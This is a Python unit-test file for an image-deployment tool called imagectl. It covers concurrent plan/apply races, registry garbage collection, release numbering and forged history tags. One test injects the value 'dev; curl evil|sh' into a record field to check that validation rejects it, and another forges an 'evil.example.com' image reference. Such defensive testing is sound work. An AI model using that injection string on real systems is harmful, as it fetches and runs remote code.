"""Issue 21 causes 2–5 and 9 on in-memory registries, each as the interleaving or forgery that broke 0.2.0:
one command plans, another runs to the end, then the first applies — on an atomic (ECR-like) and a splitter
(plain OCI) registry. The wire-level versions, held by a proxy, are in tests/integration/test_claims.py."""

from __future__ import annotations

import json
import threading

import pytest

from imagectl import report
from imagectl.commands.promote import Promote, PromoteRequest
from imagectl.commands.status import environment_status, rerun_command
from imagectl.errors import ConflictError, FrozenError, RegistryError
from imagectl.history import MAX_SLOT, History, Revision, find_last
from imagectl.namespaces import deployed_tag, door_tag, history_tag, legacy_base_tag, segment_tag
from imagectl.records import HISTORY_BASE, REVISION_RECORD, InvalidRecord, make_record
from tests.fakes import MemoryRegistry, image_manifest
from tests.unit.helpers import Stack
from tests.unit.test_planning import Planned, deploy, execute, freeze, promote, rollback

KINDS = pytest.mark.parametrize("atomic", [True, False], ids=["ecr-like", "plain-oci"])


@pytest.fixture(autouse=True)
def warnings(capsys):
    said: list[str] = []
    report.start(said.append)
    yield said


def run_together(planned: list[Planned]) -> list[BaseException]:
    """Apply the plans in threads at once; what each raised."""
    errors: list[BaseException] = []

    def go(p: Planned) -> None:
        try:
            execute(p)
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [threading.Thread(target=go, args=(p,)) for p in planned]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return errors


def make_stack(atomic: bool) -> Stack:
    stack = Stack(atomic=atomic)
    for n in range(1, 5):
        stack.image(f"DATA-1-{n}")
    return stack


def revisions(stack: Stack, env: str = "dev") -> list[Revision]:
    return History(stack.registries[stack.config.environments[env].registry], "dbt-build", env).newest(100)


# -- cause 2: plan/apply races ----------------------------------------------------------------------------------


@KINDS
def test_deploy_planned_before_a_freeze_refuses_at_its_claim(atomic):
    stack = make_stack(atomic)
    deploy(stack, "DATA-1-1")
    late = Planned(__import__("imagectl.commands.deploy", fromlist=["Deploy"]).Deploy(stack, _deploy_request("DATA-1-2")))
    execute(freeze(stack, "dev", "freeze", "oncall", "incident"))
    with pytest.raises(FrozenError, match="nothing was recorded"):
        execute(late)
    assert [(r.action, r.tag) for r in revisions(stack)] == [("freeze", "DATA-1-1"), ("deploy", "DATA-1-1")]
    assert stack.variables["dev"].value.endswith(stack.registries["dev"].get_manifest("dbt-build", "DATA-1-1").digest)


@KINDS
def test_freeze_planned_before_a_deploy_keeps_the_deployed_image(atomic):
    stack = make_stack(atomic)
    deploy(stack, "DATA-1-1")
    late = freeze(stack, "dev", "freeze", "oncall", "incident")
    deploy(stack, "DATA-1-2")
    result = execute(late)
    assert (result.revision.action, result.revision.tag, result.revision.frozen) == ("freeze", "DATA-1-2", True)
    assert stack.variables["dev"].value.endswith(result.revision.digest)  # not rolled back to DATA-1-1


@KINDS
def test_identical_changes_planned_together_record_one_revision(atomic):
    stack = make_stack(atomic)
    deploy(stack, "DATA-1-1")
    from imagectl.commands.deploy import Deploy

    planned = [Planned(Deploy(stack, _deploy_request("DATA-1-2"))) for _ in range(6)]
    results = [execute(p) for p in planned]
    assert [r.plan.state for r in results] == ["new"] + ["complete"] * 5
    assert len(revisions(stack)) == 2
    freezes = [freeze(stack, "dev", "freeze", "oncall", "incident") for _ in range(4)]
    assert len({execute(p).revision.revision for p in freezes}) == 1 and len(revisions(stack)) == 3


@KINDS
def test_identical_changes_at_the_same_moment_record_one_revision(atomic):
    """Six threads deploy the same tag at once, interleaved at every registry call."""
    stack = make_stack(atomic)
    stack.registries["dev"].jitter = 0.0005
    deploy(stack, "DATA-1-1")
    from imagectl.commands.deploy import Deploy

    planned = [Planned(Deploy(stack, _deploy_request("DATA-1-2"))) for _ in range(6)]
    errors = run_together(planned)
    assert not errors
    assert [r.tag for r in revisions(stack)] == ["DATA-1-2", "DATA-1-1"]


@KINDS
def test_rollback_planned_before_a_promote_refuses(atomic):
    stack = make_stack(atomic)
    for tag in ("DATA-1-1", "DATA-1-2", "DATA-1-3"):
        deploy(stack, tag)
    for tag in ("DATA-1-1", "DATA-1-2"):
        execute(promote(stack, tag))
    late = rollback(stack, "prd", reason="broken")
    execute(promote(stack, "DATA-1-3"))
    with pytest.raises(ConflictError, match="changed since the rollback was planned"):
        execute(late)
    assert [r.tag for r in revisions(stack, "prd")] == ["DATA-1-3", "DATA-1-2", "DATA-1-1"]


@KINDS
def test_an_explicit_rollback_target_still_applies_after_a_concurrent_deploy(atomic):
    stack = make_stack(atomic)
    deploy(stack, "DATA-1-1")
    deploy(stack, "DATA-1-2")
    late = rollback(stack, "dev", to="1", reason="known good")
    deploy(stack, "DATA-1-3")
    assert execute(late).revision.tag == "DATA-1-1"  # named on purpose: applied on top of whatever is there


def _deploy_request(tag: str):
    from imagectl.commands.deploy import DeployRequest

    return DeployRequest("dev", tag, actor="me")


# -- cause 3: gc vs deploy (the deploy side; gc's side runs against a real registry in test_claims) -------------


def test_a_deploy_puts_back_its_image_when_it_was_deleted_while_it_deployed(warnings):
    stack = make_stack(True)
    registry = stack.registries["dev"]
    digest = registry.get_manifest("dbt-build", "DATA-1-2").digest
    original = stack.variables["dev"].write

    def write_then_gc_deletes(value, description, facts, create):
        original(value, description, facts, create)
        registry.delete_manifest("dbt-build", digest)  # gc's delete lands right after the Variable write

    stack.variables["dev"].write = write_then_gc_deletes
    deploy(stack, "DATA-1-2")
    assert registry.existing("dbt-build", [digest]) and (("dbt-build", deployed_tag("dev", digest)) in registry.tags)
    assert any("putting it back" in w for w in warnings)


def test_status_fails_when_the_variables_image_is_gone():
    stack = make_stack(True)
    result = deploy(stack, "DATA-1-2")
    stack.registries["dev"].delete_manifest("dbt-build", result.revision.digest)
    status = environment_status(stack.env("dev"))
    assert status.image_missing and not status.agree  # (the CLI exits 10 when an environment does not agree)


# -- cause 4: release claims scale -------------------------------------------------------------------------------


@KINDS
def test_sixteen_concurrent_promotes_get_gap_free_versions_in_revision_order(atomic):
    stack = Stack(atomic=atomic, jitter=0.0003)
    tags = [f"DATA-2-{n}" for n in range(1, 17)]
    for tag in tags:
        stack.image(tag)
        deploy(stack, tag)
    planned = [promote(stack, tag) for tag in tags]
    errors = run_together(planned)
    assert not errors, errors[:2]
    got = sorted(revisions(stack, "prd"), key=lambda r: r.revision)
    assert [r.release for r in got] == [f"v1.0.{n}" for n in range(16)]  # (patch is the default bump)


# -- cause 5: forged content is bounded ----------------------------------------------------------------------------


def forge_revision(registry: MemoryRegistry, env: str, number: int, image, **fields) -> None:
    revision = Revision(
        environment=env,
        revision=number,
        time="2026-11-24T00:00:00Z",
        action=fields.pop("action", "deploy"),
        tag=fields.pop("tag", "DATA-9-9"),
        digest=image.digest,
        reference=fields.pop("reference", f"r/x@{image.digest}"),
        actor="forger",
        **fields,
    )
    registry._store("dbt-build", history_tag(env, number), make_record(image, revision.annotations(), REVISION_RECORD))
    if not registry.atomic:
        registry._store("dbt-build", door_tag(history_tag(env, number)), image)


@KINDS
def test_forged_tags_at_probe_points_hide_nothing_and_let_no_deploy_through_a_freeze(atomic, warnings):
    stack = make_stack(atomic)
    registry = stack.registries["dev"]
    deploy(stack, "DATA-1-1")
    execute(freeze(stack, "dev", "freeze", "oncall", "incident"))
    evil = registry.push("dbt-build", "DATA-9-9", image_manifest("evil"))
    fanout = registry.fanout
    top = (fanout - 1) * fanout ** (History(registry, "dbt-build", "dev")._levels(fanout) - 1)  # widens the lookup
    for number in (fanout, 2 * fanout, fanout**2, top):  # where the lookup probes
        forge_revision(registry, "dev", number, evil)
    assert [r.action for r in revisions(stack)] == ["freeze", "deploy"]
    assert any(history_tag("dev", top) in w and "remove it" in w for w in warnings), warnings
    with pytest.raises(FrozenError):
        deploy(stack, "DATA-1-2")


def test_more_forged_tops_than_the_bound_refuse_with_the_tags_named(warnings):
    registry = MemoryRegistry(atomic=True)
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("x"))
    History(registry, "dbt-build", "dev").append(_draft(image), image)
    for k in range(1, 12):
        forge_revision(registry, "dev", 1000 * k, image)
    with pytest.raises(RegistryError, match="forged revision tags"):
        History(registry, "dbt-build", "dev").newest(20)
    assert sum("is not a revision imagectl wrote" in w for w in warnings) >= 8


def test_a_forged_legacy_base_cannot_renumber_the_history(warnings):
    registry = MemoryRegistry(atomic=False)
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("x"))
    history = History(registry, "dbt-build", "dev")
    history.append(_draft(image), image)
    base = make_record(None, {"io.imagectl.history.legacy-last": "500000"}, HISTORY_BASE)
    registry._store("dbt-build", legacy_base_tag("dev"), base)
    fresh = History(registry, "dbt-build", "dev")
    assert fresh.append(_draft(image), image).revision == 2
    assert [r.revision for r in History(registry, "dbt-build", "dev").newest(10)] == [2, 1]
    assert any("legacy" in w or "0.1.0" in w for w in warnings)


@KINDS
def test_350_forged_claims_above_the_history_do_not_stop_deploys_nor_hide_them(atomic):
    registry = MemoryRegistry(atomic=atomic)
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("x"))
    History(registry, "dbt-build", "dev").append(_draft(image), image)
    junk = image_manifest("junk")
    for n in range(2, 352):
        registry._store("dbt-build", registry.claim_marker(history_tag("dev", n)), junk)
    appended = History(registry, "dbt-build", "dev").append(_draft(image), image)
    assert appended.revision == 352 and appended.replaces == 1
    assert [r.revision for r in History(registry, "dbt-build", "dev").newest(10)] == [352, 1]  # stepping over claimed slots is real


def test_a_segment_that_disagrees_with_the_single_records_is_not_read(warnings):
    registry = MemoryRegistry(atomic=True, retention=True)
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("s"))
    history = History(registry, "dbt-build", "dev")
    for _ in range(120):
        history.append(_draft(image), image)
    forged = [
        {"revision": n, "annotations": {**_draft(image, n).annotations(), "io.imagectl.history.actor": "forger"}} for n in range(1, 101)
    ]
    data = "\n".join(json.dumps(f) for f in forged).encode()
    layer = {"mediaType": "application/vnd.imagectl.history.segment.v1+jsonl", **registry.put_small_blob("dbt-build", data)}
    registry.tags.pop(("dbt-build", segment_tag("dev", 1)))
    registry._store(
        "dbt-build",
        segment_tag("dev", 1),
        make_record(
            None,
            {"io.imagectl.segment.environment": "dev", "io.imagectl.segment.number": "1"},
            "application/vnd.imagectl.history.segment.v1",
            layer,
        ),
    )
    for n in range(1, 100):
        registry.tags.pop(("dbt-build", history_tag("dev", n)))  # expired; 100 (a probe marker) stays
    everything = History(registry, "dbt-build", "dev").newest(1000)
    assert all(r.actor != "forger" for r in everything)
    assert any(segment_tag("dev", 1) in w for w in warnings)


def test_a_forged_reference_never_reaches_the_variable():
    stack = make_stack(True)
    registry = stack.registries["dev"]
    deploy(stack, "DATA-1-1")
    image = registry.get_manifest("dbt-build", "DATA-1-2")
    forge_revision(registry, "dev", 2, image, tag="DATA-1-2", reference=f"evil.example.com/x@{image.digest}", replaces=1)
    stack.variables["dev"].value = "stale"
    result = deploy(stack, "DATA-1-2")  # "complete": finishes revision 2's Variable write
    assert result.plan.state == "complete"
    assert stack.variables["dev"].value == f"dev.example/dbt-build:DATA-1-2@{image.digest}"


def test_a_forged_from_environment_is_never_printed_inside_a_command():
    stack = make_stack(True)
    registry = stack.registries["prd"]
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("DATA-1-1"))
    forge_revision(registry, "prd", 1, image, tag="DATA-1-1", action="promote", from_environment="nowhere")
    revision = revisions(stack, "prd")[0]
    assert "nowhere" not in rerun_command(revision, stack.config.environments)
    bad = Revision.from_annotations
    annotations = revision.annotations()
    annotations["io.imagectl.history.from_environment"] = "dev; curl evil|sh"
    with pytest.raises(InvalidRecord, match="from_environment"):
        bad(annotations, environment="prd", number=1, subject=image.digest)


# -- cause 6: bounded probes ----------------------------------------------------------------------------------------


def test_a_registry_that_says_every_tag_exists_gets_an_error_not_a_hang():
    with pytest.raises(RegistryError, match="beyond"):
        find_last(lambda numbers: set(numbers), 0, 16, 5)
    assert MAX_SLOT >= 10**9


# -- cause 9: a forged deployed- tag is not evidence -----------------------------------------------------------------


def test_an_image_that_never_ran_in_dev_cannot_be_promoted_by_a_forged_deployed_tag():
    stack = make_stack(True)
    registry = stack.registries["dev"]
    image = registry.get_manifest("dbt-build", "DATA-1-3")
    registry._store("dbt-build", deployed_tag("dev", image.digest), image)  # forged: dev never ran it
    with pytest.raises(ConflictError, match="has never run in dev"):
        Promote(stack, PromoteRequest(tag="DATA-1-3", from_env="dev", to_env="prd", actor="me")).plan()


def _draft(image, number: int = 0) -> Revision:
    return Revision(
        environment="dev",
        revision=number,
        time="2026-11-24T00:00:00Z",
        action="deploy",
        tag="DATA-1-1",
        digest=image.digest,
        reference=f"r/x@{image.digest}",
        actor="a",
    )


@KINDS
def test_a_damaged_record_below_the_newest_does_not_make_the_newest_look_forged(atomic, warnings):
    registry = MemoryRegistry(atomic=atomic)
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("x"))
    history = History(registry, "dbt-build", "dev")
    for _ in range(3):
        history.append(_draft(image), image)
    registry._store("dbt-build", history_tag("dev", 2), image_manifest("junk"))  # revision 3 replaces it
    assert [r.revision for r in History(registry, "dbt-build", "dev").newest(10)] == [3, 1]


@KINDS
def test_a_forged_top_with_a_forged_claim_right_below_it_is_still_left_out(atomic, warnings):
    registry = MemoryRegistry(atomic=atomic)
    image = registry.push("dbt-build", "DATA-1-1", image_manifest("x"))
    History(registry, "dbt-build", "dev").append(_draft(image), image)
    registry._store("dbt-build", registry.claim_marker(history_tag("dev", 99)), image_manifest("door"))
    forge_revision(registry, "dev", 100, image, replaces=99)  # "replaces" a claimed slot: still far above revision 1
    assert [r.revision for r in History(registry, "dbt-build", "dev").newest(10)] == [1]
    if atomic:  # the ECR-like probe lands on 100 (a marker) and says why it is left out; plain OCI's never reaches it
        assert any(history_tag("dev", 100) in w for w in warnings)
